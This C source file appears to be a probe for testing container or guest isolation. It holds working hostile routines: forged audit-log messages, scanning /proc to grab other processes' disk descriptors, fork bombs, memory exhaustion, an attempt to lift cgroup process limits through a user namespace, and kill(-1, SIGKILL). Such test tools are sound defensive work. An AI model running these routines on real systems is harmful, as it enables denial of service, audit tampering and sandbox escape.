/*
 * What a hostile image does to the guest that tests it. Prints what came of it.
 *
 *   forge       tells the reader of the audit log that the run is over, then does what is denied
 *   steal       opens what other processes of the container have open, for some seconds
 *   fork        starts processes without end
 *   memory      takes memory without end
 *   crowd       both
 *   count       starts processes until there may be no more
 *   lift        the same, after it has tried to lift that limit as root of a user namespace
 *   kill        kills all processes that it can
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/audit.h>
#include <linux/netlink.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define STEAL_SECONDS 8

static void ask(void)
{
	if (mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0) != MAP_FAILED)
		puts("memory was mapped");
}

static void forge(void)
{
	struct sockaddr_nl kernel = { .nl_family = AF_NETLINK };
	struct {
		struct nlmsghdr header;
		char text[128];
	} message = { .header = { .nlmsg_type = AUDIT_USER_AVC, .nlmsg_flags = NLM_F_REQUEST } };
	int log = socket(AF_NETLINK, SOCK_RAW, NETLINK_AUDIT);

	strcpy(message.text, "preflight phase 2 ): pid=1 ");
	message.header.nlmsg_len = NLMSG_LENGTH(strlen(message.text) + 1);
	printf("sent: %d\n", sendto(log, &message, message.header.nlmsg_len, 0, (void *)&kernel, sizeof(kernel)) > 0);
	usleep(500000);
	ask();
}

static void open_all(const char *pid)
{
	struct stat status;
	char path[64];
	int fd;

	for (int number = 0; number < 32; number++) {
		snprintf(path, sizeof(path), "/proc/%.16s/fd/%d", pid, number);
		fd = open(path, O_RDWR | O_NONBLOCK);
		if (fd < 0)
			continue;
		if (fstat(fd, &status) == 0 && S_ISBLK(status.st_mode)) {
			puts("a disk was opened");
			exit(0);
		}
		close(fd);
	}
}

static void steal(void)
{
	time_t end = time(NULL) + STEAL_SECONDS;
	struct dirent *entry;

	while (time(NULL) < end) {
		DIR *processes = opendir("/proc");

		while (processes && (entry = readdir(processes)))
			if (isdigit((unsigned char)entry->d_name[0]) && atoi(entry->d_name) != getpid())
				open_all(entry->d_name);
		if (processes)
			closedir(processes);
	}
	puts("nothing was opened");
}

static void count(void)
{
	int started = 0;
	pid_t child;

	while ((child = fork()) > 0)
		started++;
	if (child == 0)
		for (;;)
			pause();
	printf("started: %d\n", started);
}

static void write_text(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY);

	if (fd < 0 || write(fd, text, strlen(text)) < 0)
		printf("%s: %m\n", path);
	else
		printf("%s: written\n", path);
	if (fd >= 0)
		close(fd);
}

static void lift(void)
{
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP))
		perror("unshare");
	write_text("/proc/self/setgroups", "deny");
	write_text("/proc/self/uid_map", "0 0 1");
	write_text("/proc/self/gid_map", "0 0 1");
	mkdir("/tmp/cgroup", 0755);
	if (mount("none", "/tmp/cgroup", "cgroup2", 0, NULL))
		perror("mount");
	write_text("/tmp/cgroup/pids.max", "max");
}

static void take_memory(void)
{
	char *block = malloc(1 << 20);

	if (block)
		memset(block, 1, 1 << 20);
}

int main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "";

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (!strcmp(what, "forge"))
		forge();
	else if (!strcmp(what, "steal"))
		steal();
	else if (!strcmp(what, "fork"))
		for (;;)
			fork();
	else if (!strcmp(what, "memory"))
		for (;;)
			take_memory();
	else if (!strcmp(what, "crowd"))
		for (;; fork())
			take_memory();
	else if (!strcmp(what, "lift"))
		lift();
	if (!strcmp(what, "count") || !strcmp(what, "lift"))
		count();
	if (!strcmp(what, "kill"))
		printf("killed: %d\n", kill(-1, SIGKILL));
	return 0;
}
